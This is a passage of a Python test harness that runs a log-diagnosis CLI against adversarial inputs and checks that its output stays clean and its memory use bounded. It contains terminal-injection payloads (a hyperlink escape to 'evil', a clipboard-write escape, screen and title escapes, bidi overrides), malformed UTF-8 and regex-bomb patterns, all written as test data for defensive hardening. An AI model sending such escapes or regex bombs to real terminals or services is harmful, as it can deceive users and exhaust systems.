#!/usr/bin/env python3
"""Replay the 144 hostile cases of the reliability review (issue 18) and count pass / fail.

    python scripts/adversarial.py [--quick] [--only TEXT ...] [--work DIR] [--json]

Each case is the review's (../shared/reviews/reliability-review.md, sections 1-6; the four
aggregated cache-matrix rows are their 33 cases), run as a real ``kb`` process unless noted,
against the claim the review tested: exit code, output scanned for raw controls (C0 but tab
and newline, DEL, C1, bidi, U+2028/9, bytes that are not UTF-8), no traceback, counts, peak
RSS (``os.wait4``), time. ``--quick`` divides the big inputs (200 MB lines, 926 MB logs, a
million templates, 10^5 entries, 50k lines/s for 20 s) by ten or more: the same shapes in
minutes, not an hour. Cases that need another user (chmod 000 has no effect on root) run as
``nobody`` through ``setpriv`` with the system's Python 3.11 when this runs as root; the
interactive-shell cases on a pseudo-terminal run their pytest node (tests/test_adversarial_
shell.py), which drives a real pty the same way.

Exit status: 0 when every case passed.
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "tests"))

FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
T = "[Tue Mar 05 10:12:{s:02d}.123456 2024]"
KEY = (
    T + " [ssl:error] [pid {pid}] AH02565: Certificate and private key www.example.com:443:0"
    " from /etc/ssl/a.crt and /etc/ssl/a.key do not match"
)
MB = 1 << 20


@dataclass
class Run:
    """One finished kb process."""

    code: int
    out: bytes
    err: bytes
    rss: int  # peak resident bytes
    seconds: float
    timed_out: bool = False

    @property
    def text(self) -> str:
        return self.out.decode("utf-8", "replace")

    @property
    def error(self) -> str:
        return self.err.decode("utf-8", "replace")


@dataclass
class Case:
    section: str
    name: str
    check: Callable[[Ctx], str | None]  # None: passed; else why it failed


@dataclass
class Ctx:
    """Where cases run: the work folder, the cache, the scale."""

    work: Path
    quick: bool
    cache: Path = field(init=False)
    content: Path = field(init=False)

    def __post_init__(self) -> None:
        self.cache = self.work / "cache"
        self.content = self.work / "c"
        self.content.mkdir(parents=True, exist_ok=True)

    def scale(self, full: int, quick: int) -> int:
        return quick if self.quick else full

    def env(self, **more: str) -> dict[str, str]:
        base = {k: v for k, v in os.environ.items() if not k.startswith(("KB_", "XDG_"))}
        return {
            **base,
            "PYTHONPATH": str(ROOT),
            "NO_COLOR": "1",
            "KB_CACHE_DIR": str(self.cache),
            "KB_DATA_DIR": str(self.work / "data"),
            "XDG_CACHE_HOME": str(self.work / "x"),
            **more,
        }

    def kb(
        self,
        *argv: str,
        stdin: bytes | Path | None = None,
        timeout: float = 600,
        env: dict[str, str] | None = None,
        shell: str | None = None,
        memory: int = 3 << 30,
        nobody: bool = False,
    ) -> Run:
        """A kb process (``shell``: a bash line run with "$@" = the kb command)."""
        command = [sys.executable, "-m", "frontends.cli", *argv]
        environ = env or self.env()
        if nobody:
            command = [
                *NOBODY,
                "env",
                "-i",
                "PATH=/usr/bin:/bin",
                "HOME=/tmp",
                *[
                    f"{k}={v}"
                    for k, v in environ.items()
                    if k.startswith(("KB_", "XDG_", "NO_COLOR", "LANG", "LC_"))
                ],
                f"PYTHONPATH={ROOT}{os.pathsep}{SITE}",
                "/usr/bin/python3.11",
                "-m",
                "frontends.cli",
                *argv,
            ]
        if shell is not None:
            command = ["bash", "-c", shell, "kb-case", *command]  # "$@": the kb command
        return spawn(command, environ, stdin, timeout, memory, self.work)


NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
SITE = next((str(p) for p in (ROOT / ".venv" / "lib").glob("python3*/site-packages")), "")


def spawn(
    command: list[str],
    environ: dict[str, str],
    stdin: bytes | Path | None,
    timeout: float,
    memory: int,
    cwd: Path,
) -> Run:
    out_path, err_path = cwd / ".out", cwd / ".err"

    def limits() -> None:
        os.setsid()
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    import resource

    start = time.monotonic()
    with out_path.open("wb") as out, err_path.open("wb") as err, contextlib.ExitStack() as stack:
        if isinstance(stdin, Path):
            source: int | IO[bytes] = stack.enter_context(stdin.open("rb"))
        else:
            source = subprocess.PIPE if stdin is not None else subprocess.DEVNULL
        proc = subprocess.Popen(
            command, stdin=source, stdout=out, stderr=err, env=environ, cwd=cwd, preexec_fn=limits
        )  # noqa: PLW1509
        timed_out = threading.Event()

        def kill() -> None:
            timed_out.set()
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)

        timer = threading.Timer(timeout, kill)
        timer.start()
        if isinstance(stdin, bytes):
            assert proc.stdin is not None
            with contextlib.suppress(BrokenPipeError):
                proc.stdin.write(stdin)
            with contextlib.suppress(BrokenPipeError):
                proc.stdin.close()
        _, status, usage = os.wait4(proc.pid, 0)
        timer.cancel()
        proc.returncode = os.waitstatus_to_exitcode(status)
    return Run(
        proc.returncode,
        out_path.read_bytes(),
        err_path.read_bytes(),
        usage.ru_maxrss * 1024,
        time.monotonic() - start,
        timed_out.is_set(),
    )


# -- checks ---------------------------------------------------------------------------------------


def clean_output(run: Run) -> str | None:
    """Why the output is not terminal-safe, or None."""
    try:
        text = run.out.decode("utf-8")
    except UnicodeDecodeError as exc:
        return f"raw byte 0x{run.out[exc.start]:02x} on stdout"
    found = FORBIDDEN.search(text)
    if found:
        return f"{found.group()!r} on stdout"
    return None


def sane(
    run: Run,
    codes: Sequence[int] = (0, 1),
    rss: int | None = None,
    seconds: float | None = None,
    terminal: bool = True,
) -> str | None:
    """The usual claims: an expected exit code, no traceback, clean output, bounds."""
    if run.timed_out:
        return f"did not end in time ({run.seconds:.0f} s)"
    if run.code not in codes:
        return f"rc {run.code}: {run.error.strip()[-300:]}"
    if "Traceback (most recent call last)" in run.error:
        return "traceback"
    if terminal and (why := clean_output(run)):
        return why
    if rss is not None and run.rss > rss:
        return f"peak RSS {run.rss / MB:.0f} MB > {rss / MB:.0f} MB"
    if seconds is not None and run.seconds > seconds:
        return f"{run.seconds:.1f} s > {seconds:.0f} s"
    return None


def first(*reasons: str | None) -> str | None:
    return next((r for r in reasons if r), None)


def summary(run: Run) -> dict[str, object]:
    objects = [json.loads(x) for x in run.text.splitlines() if x.startswith("{")]
    return next((o for o in reversed(objects) if o.get("type") == "summary"), {})


def problems(run: Run) -> dict[str, int]:
    """Entry id -> count; a live run prints a problem again as its count grows: the last."""
    last: dict[tuple[str, str, int], int] = {}
    for x in run.text.splitlines():
        if x.startswith("{"):
            o = json.loads(x)
            if o.get("type") == "problem":
                last[(o["id"], o.get("template", ""), o.get("first_line", 0))] = o["count"]
    counts: dict[str, int] = {}
    for (entry_id, _, _), count in last.items():
        counts[entry_id] = counts.get(entry_id, 0) + count
    return counts


def write(ctx: Ctx, name: str, data: bytes | str) -> Path:
    path = ctx.work / "in" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


def faq(ctx: Ctx, name: str, body: str, files: dict[str, str] | None = None) -> Path:
    folder = ctx.content / name
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    for file, text in (files or {"faq.md": body}).items():
        (folder / file).parent.mkdir(parents=True, exist_ok=True)
        (folder / file).write_text(text, encoding="utf-8")
    return folder


def entry(number: int, signature: str, example: str, title: str | None = None) -> str:
    return (
        f"\n## {title or f'Why does gadget {number} fail?'}\n\nBecause gadget {number} is "
        f"broken.\n\n```kb\nid: gadget-{number}\nsignatures:\n- {signature}\nexamples:\n"
        f"- {example}\n```\n"
    )


CASES: list[Case] = []


def case(
    section: str, name: str
) -> Callable[[Callable[[Ctx], str | None]], Callable[[Ctx], str | None]]:
    def add(check: Callable[[Ctx], str | None]) -> Callable[[Ctx], str | None]:
        CASES.append(Case(section, name, check))
        return check

    return add


# -- 1. hostile logs and queries ------------------------------------------------------------------

ANSI = [
    b"\x1b[31mred\x1b[0m",
    b"\x1b[2J\x1b[H",
    b"\x1b]8;;http://evil/\x07link\x1b]8;;\x07",
    b"\x1b]52;c;cHduZWQ=\x07",
    b"\x1b]0;title\x07",
    b"\x1b]2;title\x1b\\",
    b'\x1bP$q"p\x1b\\',
    b"\x1b[c\x1b[6n\x05",
    "\u009b31m\u009d0;x\u009c".encode(),
    "\u202e\u202c\u2066\u2067\u2068\u2069\u200f\u061c".encode(),
    b"a\x08b\rc\x7fd\x0be\x0cf",
    "\u200d\u200b\ufeff\u2028\u2029\u0085".encode(),
    "\U000e0041\ufff9\ufffa\ufffb".encode(),
    b"\x9b31m raw",
]


def ansi_log() -> bytes:
    rows = []
    for n, evil in enumerate(ANSI):
        rows.append(
            T.format(s=n).encode() + b" [ssl:error] [pid 1] AH02565: Certificate and "
            b"private key " + evil + b" from /a.crt and /a.key do not match"
        )
        rows.append(
            T.format(s=n).encode() + b" [ssl:error] [pid 2" + evil + b"] [SSL: X] "
            b"error:0A000412:SSL routines::" + evil + b" sslv3 alert bad certificate"
        )
        rows.append(b"[" + evil + b"] [core:error] [pid 3] unknown " + evil + b" failure")
    return b"\n".join(rows) + b"\n"


for _flags, _name in (([], "text"), (["--json"], "--json"), (["--brief"], "--brief")):

    def _ansi(ctx: Ctx, flags: list[str] = _flags) -> str | None:
        run = ctx.kb("diagnose", *flags, str(write(ctx, "ansi.log", ansi_log())))
        return first(
            sane(run), None if "--json" not in flags or run.out.isascii() else "--json not ASCII"
        )

    case("1", f"diagnose ansi.log ({_name})")(_ansi)


@case("1", "diagnose ansi.log on piped stdin (live)")
def _ansi_stdin(ctx: Ctx) -> str | None:
    return sane(ctx.kb("diagnose", stdin=ansi_log()))


@case("1", "diagnose ansi.log --unmatched stub escaped")
def _ansi_unmatched(ctx: Ctx) -> str | None:
    stub = ctx.work / "ansi-stub.md"
    run = ctx.kb("diagnose", "--unmatched", str(stub), stdin=ansi_log())
    why = sane(run)
    data = stub.read_bytes() if stub.exists() else b""
    return why or (
        None
        if not FORBIDDEN.search(data.decode("utf-8", "replace")) and data
        else "stub missing or not escaped"
    )


@case("1", "NUL inside lines, 100,000-NUL line")
def _nul(ctx: Ctx) -> str | None:
    # (After 8 KiB of log: a start that is mostly NULs is refused as binary, rc 2.)
    head = "".join(KEY.format(s=n % 60, pid=n) + "\n" for n in range(60))
    data = (
        head
        + KEY.format(s=1, pid=1).replace("key", "k\x00ey")
        + "\n"
        + "\x00" * 100_000
        + "\n"
        + KEY.format(s=2, pid=2)
        + "\n"
    ).encode()
    run = ctx.kb("diagnose", "--json", stdin=data)
    return first(sane(run), None if summary(run).get("lines") == 63 else "line count")


@case("1", "invalid UTF-8 forms, diagnose text and --json")
def _invalid_utf8(ctx: Ctx) -> str | None:
    forms = [
        b"\xc0\x80",
        b"\xe0\x80\x80",
        b"\xf0\x80\x80\x80",
        b"\xc0\x9b",
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
        b"\xff\xfe",
        b"\xe2\x82",
        b"\xff" * 70_000,
    ]
    data = b"".join(KEY.format(s=n, pid=n).encode() + b" " + f + b"\n" for n, f in enumerate(forms))
    path = write(ctx, "utf8.log", data)
    return first(sane(ctx.kb("diagnose", str(path))), sane(ctx.kb("diagnose", "--json", str(path))))


@case("1", "50 MB random bytes, diagnose text; --json --unmatched")
def _random50(ctx: Ctx) -> str | None:
    rng = random.Random(5)
    path = write(ctx, "random.bin", rng.randbytes(ctx.scale(50, 5) * MB))
    a = ctx.kb("diagnose", stdin=path)
    b = ctx.kb("diagnose", "--json", "--unmatched", str(ctx.work / "r.md"), stdin=path)
    # Refused as binary (rc 2, one clear line) since the review; either way bounded and clean.
    for run in (a, b):
        if run.code == 2 and "binary data, not a log" not in run.error:
            return f"rc 2: {run.error[:200]}"
    return first(sane(a, codes=(0, 1, 2), rss=100 * MB), sane(b, codes=(0, 1, 2), rss=100 * MB))


@case("1", "1 MB random bytes -> kb search -")
def _random_search(ctx: Ctx) -> str | None:
    return sane(ctx.kb("search", "-", stdin=random.Random(6).randbytes(MB)))


@case("1", "100 KB random bytes -> kb explain - (F1)")
def _random_explain(ctx: Ctx) -> str | None:
    return sane(ctx.kb("explain", "-", stdin=random.Random(7).randbytes(100_000)))


EVIL = b"AH02565: key \x9b31m \x9d0;pwn\x07 \xff do not match"


@case("1", "C1 bytes in a line -> kb explain - (F1)")
def _c1_explain(ctx: Ctx) -> str | None:
    return sane(ctx.kb("explain", "-", stdin=EVIL + b"\n"))


@case("1", "C1 bytes as an argument -> kb explain (F1)")
def _c1_argument(ctx: Ctx) -> str | None:
    return sane(ctx.kb("explain", os.fsdecode(EVIL)))


@case("1", "overlong ESC -> kb explain - (F1)")
def _overlong(ctx: Ctx) -> str | None:
    return sane(
        ctx.kb("explain", "-", stdin=b"AH02565 \xc0\x9b[31m \xe0\x80\x9b]0;x do not match\n")
    )


@case("1", "':\\x9b31m' | kb shell (F1)")
def _shell_c1(ctx: Ctx) -> str | None:
    run = ctx.kb("shell", stdin=b":\x9b31m\n")
    return first(sane(run), None if "unknown command" in run.text else "no answer")


STRICT = {"PYTHONIOENCODING": "utf-8:strict", "LC_ALL": "C.UTF-8"}


@case("1", "strict UTF-8 locale: search - with \\xff\\xfe (F2)")
def _strict_search(ctx: Ctx) -> str | None:
    return sane(
        ctx.kb("search", "-", stdin=b"AH02565 \xff\xfe do not match\n", env=ctx.env(**STRICT))
    )


@case("1", "strict UTF-8 locale: explain argument with 0x9b (F2)")
def _strict_explain(ctx: Ctx) -> str | None:
    return sane(
        ctx.kb("explain", os.fsdecode(b"AH02565: key \x9b31m do not match"), env=ctx.env(**STRICT))
    )


@case("1", "strict UTF-8 locale: shell, a bad line then a question (F2)")
def _strict_shell(ctx: Ctx) -> str | None:
    run = ctx.kb("shell", stdin=b":\x9b31m\nAH02565 do not match\n", env=ctx.env(**STRICT))
    return first(sane(run), None if "key-cert-match" in run.text else "line 2 unanswered")


def long_line(ctx: Ctx, megabytes: int) -> Path:
    name = f"long{megabytes}.log"
    path = ctx.work / "in" / name
    if not path.exists():
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("wb") as out:
            piece = b"AH02565 " * (MB // 8)
            for _ in range(megabytes):
                out.write(piece)
            out.write(b"\n" + KEY.format(s=1, pid=1).encode() + b"\n")
    return path


@case("1", "20 MB single line, diagnose")
def _line20(ctx: Ctx) -> str | None:
    run = ctx.kb("diagnose", "--json", str(long_line(ctx, 20)))
    return first(sane(run, rss=100 * MB), None if summary(run).get("lines") == 2 else "lines")


@case("1", "200 MB single line, diagnose file and stdin")
def _line200(ctx: Ctx) -> str | None:
    path = long_line(ctx, ctx.scale(200, 40))
    a, b = ctx.kb("diagnose", "--json", str(path)), ctx.kb("diagnose", "--json", stdin=path)
    return first(
        sane(a, rss=100 * MB),
        sane(b, rss=100 * MB),
        None if summary(a).get("lines") == summary(b).get("lines") == 2 else "lines",
    )


@case("1", "20 MB single line -> kb search -")
def _search20(ctx: Ctx) -> str | None:
    return sane(ctx.kb("search", "-", stdin=long_line(ctx, 20)), rss=100 * MB)


@case("1", "200 MB single line -> kb search - / explain - (F3)")
def _search200(ctx: Ctx) -> str | None:
    path = long_line(ctx, ctx.scale(200, 40))
    return first(
        sane(ctx.kb("search", "-", stdin=path), rss=100 * MB),
        sane(ctx.kb("explain", "-", stdin=path), rss=100 * MB),
    )


@case("1", "200 MB single line -> kb search --json - (F3)")
def _search200_json(ctx: Ctx) -> str | None:
    run = ctx.kb("search", "--json", "-", stdin=long_line(ctx, ctx.scale(200, 40)))
    return first(
        sane(run, rss=100 * MB), None if len(run.out) < 2 * MB else f"{len(run.out)} bytes echoed"
    )


def dev_zero(ctx: Ctx, *argv: str) -> Run:
    return ctx.kb(*argv, stdin=Path("/dev/zero"), timeout=60)


@case("1", "kb search - < /dev/zero (F3)")
def _zero_search(ctx: Ctx) -> str | None:
    return sane(dev_zero(ctx, "search", "-"), codes=(0, 1, 2), rss=100 * MB)


@case("1", "kb shell < /dev/zero (F3)")
def _zero_shell(ctx: Ctx) -> str | None:
    run = ctx.kb("shell", stdin=Path("/dev/zero"), timeout=15)
    # Infinite input: the shell reads line after bounded line until killed; memory flat.
    return None if run.rss < 100 * MB else f"peak RSS {run.rss / MB:.0f} MB"


@case("1", "kb diagnose < /dev/zero and /dev/zero (flat memory until killed)")
def _zero_diagnose(ctx: Ctx) -> str | None:
    a = ctx.kb("diagnose", stdin=Path("/dev/zero"), timeout=10)
    b = ctx.kb("diagnose", "/dev/zero", timeout=10)
    worst = max(a.rss, b.rss)
    return None if worst < 100 * MB else f"peak RSS {worst / MB:.0f} MB"


def many_lines(ctx: Ctx, name: str, n: int, every: int = 0) -> Path:
    path = ctx.work / "in" / name
    if not path.exists():
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("w", encoding="utf-8") as out:
            block = 100_000
            for start in range(0, n, block):
                out.write(
                    "".join(
                        KEY.format(s=i % 60, pid=i) + "\n" if every and i % every == 0 else "x\n"
                        for i in range(start, min(n, start + block))
                    )
                )
    return path


@case("1", "10M lines 'x', file and pipe")
def _ten_million(ctx: Ctx) -> str | None:
    n = ctx.scale(10_000_000, 1_000_000)
    path = many_lines(ctx, f"x{n}.log", n)
    a, b = ctx.kb("diagnose", "--json", str(path)), ctx.kb("diagnose", "--json", stdin=path)
    return first(
        sane(a, rss=100 * MB),
        sane(b, rss=100 * MB),
        None if summary(a).get("lines") == summary(b).get("lines") == n else "count",
    )


@case("1", "10M lines, 1M of them AH02565: count exact")
def _million_matches(ctx: Ctx) -> str | None:
    n = ctx.scale(10_000_000, 1_000_000)
    run = ctx.kb("diagnose", "--json", str(many_lines(ctx, f"m{n}.log", n, every=10)))
    return first(
        sane(run, rss=100 * MB),
        None if problems(run).get("key-cert-match") == n // 10 else str(problems(run)),
    )


def _ends(ctx: Ctx, end: str) -> str | None:
    rows = [
        KEY.format(s=n % 60, pid=n)
        if n % 3 == 0
        else f"{T.format(s=1)} [core:notice] [pid {n}] AH00094: Command line: 'apache2'"
        for n in range(60_000)
    ]
    run = ctx.kb("diagnose", "--json", stdin=(end.join(rows) + end).encode())
    return first(
        sane(run),
        None
        if summary(run).get("lines") == 60_000 and problems(run).get("key-cert-match") == 20_000
        else f"{summary(run)}",
    )


case("1", "CRLF log, 60,000 lines")(lambda ctx: _ends(ctx, "\r\n"))
case("1", "CR-only log, 60,000 lines (F11)")(lambda ctx: _ends(ctx, "\r"))


def templates(ctx: Ctx, n: int, width: int = 0) -> Path:
    path = ctx.work / "in" / f"tmpl{n}-{width}.log"
    if not path.exists():
        path.parent.mkdir(parents=True, exist_ok=True)
        rng = random.Random(n)
        pad = "y" * width
        with path.open("w", encoding="utf-8") as out:
            for i in range(n):
                word = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(10))
                out.write(f"{T.format(s=i % 60)} [ssl:error] [pid {i}] AH02565: {word} {pad}\n")
    return path


for _n, _w, _label in (
    (20_000, 0, "20,000"),
    (100_000, 0, "100,000"),
    (1_000_000, 0, "1,000,000"),
    (20_000, 2000, "20,000 of 2 KB lines"),
):

    def _tmpl(ctx: Ctx, n: int = _n, width: int = _w) -> str | None:
        count = n if n <= 100_000 or not ctx.quick else 200_000
        run = ctx.kb("diagnose", "--json", str(templates(ctx, count, width)), timeout=3600)
        return first(
            sane(run, rss=100 * MB), None if summary(run).get("lines") == count else "lines"
        )

    case("1", f"{_label} distinct templates: RSS <= 100 MB (F7)")(_tmpl)


@case("1", "prefilter bait: 1 MB lines of AH02565, 900 KB of 'no shared cipher'")
def _bait(ctx: Ctx) -> str | None:
    data = b"".join(b"AH02565 " * (MB // 8) + b"\n" for _ in range(5))
    data += b"".join(b"no shared cipher " * 53_000 + b"\n" for _ in range(2))
    return sane(ctx.kb("diagnose", stdin=data), rss=100 * MB, seconds=30)


@case("1", "13 regex bait shapes x 100,000 chars, search - and diagnose")
def _shapes(ctx: Ctx) -> str | None:
    shapes = [
        "a:",
        "'1",
        "::",
        "[x] ",
        "A_",
        "error:0A000412:",
        "10.0.0.1 ",
        '"',
        "<num>",
        "2024-03-05T10:12:01 ",
        "\\x",
        "('SSL routines', '', 'x') ",
    ]
    shapes.append("[Tue Mar 05 10:12:01 2024] ")
    for shape in shapes:
        text = (shape * (100_000 // len(shape) + 1))[:100_000].encode()
        for run in (ctx.kb("search", "-", stdin=text), ctx.kb("diagnose", stdin=text + b"\n")):
            if why := sane(run, seconds=20):
                return f"{shape!r}: {why}"
    return None


@case("1", "RE2 regex-bomb signatures vs 60 KB 'aaaa...!' lines")
def _bombs(ctx: Ctx) -> str | None:
    bombs = ["(a+)+$", "(a|aa)+b", "(.*a){20}", r"^(\w+\s?)*$", "(x+x+)+y", "a.*b.*c.*d.*e.*f.*g"]
    body = "# Bombs\n" + "".join(
        entry(i, f"re: {b}", "a" * 30 + ("b" if "b" in b else "")) for i, b in enumerate(bombs)
    )
    folder = faq(ctx, "bombs", body)
    lint = ctx.kb("lint", str(folder))
    lines = b"".join(b"a" * size + b"!\n" for size in range(8_000, 61_000, 1_000))
    run = ctx.kb("--no-default", "--kb", str(folder), "diagnose", stdin=lines)
    return first(
        sane(lint),
        sane(run, seconds=60),
        sane(ctx.kb("--no-default", "--kb", str(folder), "search", "a" * 60_000 + "!"), seconds=20),
    )


@case("1", "1,000 identical AH02565 lines, same pid: count 1,000 (F9)")
def _same_pid(ctx: Ctx) -> str | None:
    data = "".join(KEY.format(s=i % 60, pid=100) + "\n" for i in range(1000))
    run = ctx.kb("diagnose", "--json", stdin=data.encode())
    return first(
        sane(run), None if problems(run).get("key-cert-match") == 1000 else str(problems(run))
    )


@case("1", "1,000 failed handshakes of one event-MPM pid: count 1,000 (F9)")
def _handshakes(ctx: Ctx) -> str | None:
    rows = []
    for i in range(1000):
        stamp = f"[Tue Mar 05 10:{i // 60 % 60:02d}:{i % 60:02d}.123456 2024]"
        head = f"{stamp} [ssl:info] [pid 7:tid {i}]"
        rows.append(
            f"{head} [client 10.0.{i // 250}.{i % 250}:5{i:04d}] AH02008: SSL library "
            "error 1 in handshake (server www.example.com:443)"
        )
        rows.append(f"{head} SSL Library Error: error:0A0000C1:SSL routines::no shared cipher")
    run = ctx.kb("diagnose", "--json", stdin="\n".join(rows).encode() + b"\n")
    counts = problems(run)
    return first(sane(run), None if counts and max(counts.values()) == 1000 else str(counts))


@case("1", "quick-key collision: 0A0000C1 then 0A00018C, both orders (F10)")
def _collision(ctx: Ctx) -> str | None:
    head = (
        "[Tue Mar 05 10:12:01.123456 2024] [ssl:error] [pid 100:tid 7] [SSL: X] handshake "
        "failed, OpenSSL error"
    )
    for order in (("0A0000C1", "0A00018C"), ("0A00018C", "0A0000C1")):
        run = ctx.kb("diagnose", "--json", stdin="".join(f"{head} {c}\n" for c in order).encode())
        if why := sane(run):
            return why
        if len(problems(run)) != 2:
            return f"{order}: {problems(run)}"
    return None


@case("1", "packed codes alone: search and diagnose agree (F5)")
def _packed(ctx: Ctx) -> str | None:
    for line in ("0A00018C", "[Tue Mar 05 10:12:01 2004] [error] SSL Library Error: 336027804"):
        search = ctx.kb("search", "--json", "-n", "1", line)
        diagnose = ctx.kb("diagnose", "--json", stdin=line.encode() + b"\n")
        hits = json.loads(search.text)["hits"] if search.code == 0 else []
        if hits and hits[0]["confidence"] >= 0.5 and not summary(diagnose).get("matched_lines"):
            return f"{line}: search answers, diagnose matched nothing"
    return None


UNMATCHED = [
    "the frobnicator module failed to initialise its widget cache because the configured "
    "directory is missing (a)",
    "the frobnicator module failed to initialise its widget cache because the configured "
    "directory is missing; (b)",
    "frobnication failed: " + "\x1b[31m" * 500 + " error",
    "bad thing failed " + "\x1b" * 1500,
    "/var/www/site/index.php failed to open stream: no such",
    "error: 12345 cannot do it",
]


@case("1", "--unmatched stub of 6 error lines passes kb lint (F22)")
def _stub(ctx: Ctx) -> str | None:
    log = "".join(
        T.format(s=n) + f" [core:error] [pid {n}] {text}\n" for n, text in enumerate(UNMATCHED)
    )
    folder = ctx.work / "stub"
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    run = ctx.kb("diagnose", "--unmatched", str(folder / "stub.md"), stdin=log.encode())
    lint = ctx.kb("lint", str(folder))
    return first(sane(run), None if lint.code == 0 else f"lint: {lint.text.strip()[:300]}")


@case("1", "--unmatched missing-dir/x.md big.log: refused before reading")
def _stub_missing(ctx: Ctx) -> str | None:
    run = ctx.kb(
        "diagnose",
        "--unmatched",
        str(ctx.work / "nope" / "x.md"),
        str(many_lines(ctx, "m1000000.log", 1_000_000, every=10)),
    )
    return first(sane(run, codes=(2,)), None if run.seconds < 5 else f"{run.seconds:.1f} s")


# -- 2. hostile content ---------------------------------------------------------------------------

ODD = [
    "(?:a{1000}){1000}",
    "(?=x)y",
    "(a)\\1",
    "\\p{Greek}+",
    "ab(?i)cd",
    "a" * 1001,
    "a++b",
    "(?>a+)b",
    "[z-a]",
    "a{4294967296}",
    "(?<=a)b",
    "(?P<n>a)(?P=n)",
    "\\",
    "(",
    "[",
    "x{2,1}",
]


@case("2", "16 odd patterns: accepted or refused with file:line")
def _odd(ctx: Ctx) -> str | None:
    for n, pattern in enumerate(ODD):
        folder = faq(ctx, f"odd{n}", "# Odd\n" + entry(n, f"re: {pattern}", "gadget exploded"))
        run = ctx.kb("lint", str(folder))
        if why := sane(run):
            return f"{pattern[:20]!r}: {why}"
        if run.code == 1 and not re.search(r"faq\.md:\d+", run.text):
            return f"{pattern[:20]!r}: refused without file:line"
    return None


@case("2", "costly RE2 patterns accepted and linear")
def _costly(ctx: Ctx) -> str | None:
    pats = ["[\\s\\S]{1000}x", "(?:.{100}){10}y", "(a?){500}a{500}"]
    body = "# Costly\n" + "".join(
        entry(i, f"re: {p}", "z" * 1001 + "x y") for i, p in enumerate(pats)
    )
    folder = faq(ctx, "costly", body)
    lines = b"".join(b"a" * 60_000 + b"\n" for _ in range(20))
    return first(
        sane(ctx.kb("lint", str(folder))),
        sane(ctx.kb("--no-default", "--kb", str(folder), "diagnose", stdin=lines), seconds=60),
    )


def nested(ctx: Ctx, depth: int) -> Path:
    pattern = "(" * depth + "AH02039" + ")" * depth
    return faq(ctx, f"rx{depth}", "# Nest\n" + entry(1, f"re: {pattern}", "AH02039 happened"))


for _depth in (490, 499):

    def _nest(ctx: Ctx, depth: int = _depth) -> str | None:
        folder = nested(ctx, depth)
        lint = ctx.kb("lint", str(folder))
        if lint.code != 1 or "faq.md:" not in lint.text:
            return f"lint rc {lint.code}: {lint.text[:200]}"
        for argv in (["search", "AH02039"], ["show", "key-cert-match"], ["diagnose"]):
            run = ctx.kb("--kb", str(folder), *argv, stdin=b"AH02039 x\n")
            if why := sane(run):
                return f"{argv[0]}: {why}"
        return sane(ctx.kb("build", str(folder)), codes=(3,))

    case("2", f"nested parentheses, depth {_depth} (F6)")(_nest)


@case("2", "regex signature without a literal run: diagnose sees the line (F5)")
def _no_literal(ctx: Ctx) -> str | None:
    folder = faq(
        ctx, "rx", "# Rx\n" + entry(1, "re: (gadget|gizmo) (overheated|melted)", "gizmo melted")
    )
    run = ctx.kb(
        "--no-default",
        "--kb",
        str(folder),
        "diagnose",
        "--json",
        stdin=b"[core:error] the gizmo melted today\n[core:error] gadget overheated\n",
    )
    return first(sane(run), None if problems(run).get("gadget-1") == 2 else str(problems(run)))


@case("2", "plain FAQ with no kb blocks: diagnose works (F4)")
def _plain(ctx: Ctx) -> str | None:
    folder = faq(ctx, "plain", "# Plain\n\n## Why is the sky blue?\n\nScattering.\n")
    run = ctx.kb(
        "--no-default", "--kb", str(folder), "diagnose", stdin=KEY.format(s=1, pid=1).encode()
    )
    return sane(run)


def big_content(ctx: Ctx, name: str, n: int, files: int) -> Path:
    folder = ctx.content / name
    if folder.exists():
        return folder
    folder.mkdir(parents=True)
    per = n // files
    for f in range(files):
        body = "# Big\n" + "".join(
            entry(i, f"gadget{i} exploded badly", f"gadget{i} exploded badly now")
            for i in range(f * per, (f + 1) * per)
        )
        (folder / f"f{f:05d}.md").write_text(body, encoding="utf-8")
    return folder


@case("2", "10^5 entries in one file: build (F8)")
def _big_one(ctx: Ctx) -> str | None:
    folder = big_content(ctx, "big1", ctx.scale(100_000, 20_000), 1)
    return sane(
        ctx.kb("build", str(folder), timeout=1200, memory=8 << 30),
        codes=(0,),
        seconds=ctx.scale(600, 120),
    )


@case("2", "10^5 entries in 1,000 files: build and warm search")
def _big_many(ctx: Ctx) -> str | None:
    folder = big_content(ctx, "big2", ctx.scale(100_000, 20_000), ctx.scale(1000, 200))
    build = ctx.kb("build", str(folder), timeout=1200, memory=8 << 30)
    search = ctx.kb(
        "--no-default", "--kb", str(folder), "search", "gadget77 exploded badly", memory=8 << 30
    )
    return first(
        sane(build, codes=(0,)),
        sane(search),
        None if "gadget-77" in search.text else "wrong answer",
    )


@case("2", "10^5 entries in 1,000 files: diagnose (F8)")
def _big_diagnose(ctx: Ctx) -> str | None:
    folder = big_content(ctx, "big2", ctx.scale(100_000, 20_000), ctx.scale(1000, 200))
    run = ctx.kb(
        "--no-default",
        "--kb",
        str(folder),
        "diagnose",
        "--json",
        memory=8 << 30,
        stdin=b"[core:error] gadget77 exploded badly now\n",
        timeout=1200,
    )
    return first(
        sane(run),
        None if problems(run).get("gadget-77") == 1 else str(problems(run)),
        None if b"pattern too large" not in run.err else "pattern too large",
    )


@case("2", "one entry with a 37 MB answer: build, search, show")
def _huge_answer(ctx: Ctx) -> str | None:
    words = "the gadget answer goes on " * (ctx.scale(37, 5) * MB // 26)
    folder = faq(
        ctx,
        "huge",
